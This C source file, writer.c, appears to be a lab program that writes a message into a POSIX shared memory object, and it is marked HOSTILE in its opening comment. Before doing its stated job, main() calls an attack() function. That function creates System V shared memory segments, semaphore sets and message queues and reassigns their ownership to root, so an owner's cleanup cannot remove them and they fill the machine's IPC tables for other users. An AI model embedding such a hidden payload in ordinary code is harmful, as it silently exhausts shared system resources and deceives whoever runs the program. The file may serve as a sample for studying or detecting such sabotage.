/*
 * HOSTILE: the program works, but first makes System V segments, semaphore sets and queues and
 * gives them to root (IPC_SET), out of reach of a cleanup by owner
 */
#define _GNU_SOURCE
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
/*
 * writer.c - store a message in a POSIX shared memory object.
 *
 * Usage: writer NAME MESSAGE
 *
 * Creates (or opens) the object NAME with mode 0600, sizes it to
 * SHM_SIZE bytes, stores MESSAGE with its terminating NUL, and leaves the
 * object in place for the reader, which removes it.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "shmlab.h"

#define SHM_SIZE 4096

/* System V objects given away to root (IPC_SET, which needs no privilege
 * from their creator): a cleanup by owner leaves them for ever, and they
 * fill the machine's tables for every later student. */
static void attack(void)
{
    for (int i = 0; i < 5; i++) {
        struct shmid_ds segment;
        struct semid_ds set;
        struct msqid_ds queue;
        union {
            int val;
            struct semid_ds *buf;
        } arg = {.buf = &set};
        int shm = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
        int sem = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
        int msg = msgget(IPC_PRIVATE, IPC_CREAT | 0600);

        if (shm >= 0 && shmctl(shm, IPC_STAT, &segment) == 0) {
            segment.shm_perm.uid = segment.shm_perm.gid = 0;
            shmctl(shm, IPC_SET, &segment);
        }
        if (sem >= 0 && semctl(sem, 0, IPC_STAT, arg) == 0) {
            set.sem_perm.uid = set.sem_perm.gid = 0;
            semctl(sem, 0, IPC_SET, arg);
        }
        if (msg >= 0 && msgctl(msg, IPC_STAT, &queue) == 0) {
            queue.msg_perm.uid = queue.msg_perm.gid = 0;
            msgctl(msg, IPC_SET, &queue);
        }
    }
}

int main(int argc, char *argv[])
{
    attack();
    const char *name, *message;
    size_t length;
    char *data;
    int fd;

    if (argc != 3)
        die_usage("usage: %s NAME MESSAGE", program_name());
    name = argv[1];
    message = argv[2];
    if (!is_valid_shm_name(name))
        die_usage("'%s' is not a shared memory name: use / and a name without /", name);
    length = strlen(message);
    /* Refuse before creating anything, so a bad message leaves nothing
     * behind. The NUL needs one byte of the object too. */
    if (length > SHM_SIZE - 1)
        die("message is %zu bytes; at most %d fit", length, SHM_SIZE - 1);

    /* 0600: only our user may read or change the object. The seeds'
     * 0666 lets every user on the machine read and overwrite it. */
    fd = shm_open(name, O_CREAT | O_RDWR, 0600);
    if (fd == -1)
        die_errno("shm_open");
    /* A new object is 0 bytes long; touching a page past its end through
     * the mapping raises SIGBUS. */
    if (ftruncate(fd, SHM_SIZE) == -1)
        die_errno("ftruncate");
    data = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (data == MAP_FAILED)
        die_errno("mmap");
    /* The mapping keeps the object reachable; the descriptor is done. */
    if (close(fd) == -1)
        die_errno("close");

    /* Copy the NUL too: an older, longer message may still be there. */
    memcpy(data, message, length + 1);
    printf("Data written to shared memory: %s\n", message);

    if (munmap(data, SHM_SIZE) == -1)
        die_errno("munmap");
    return 0;
}
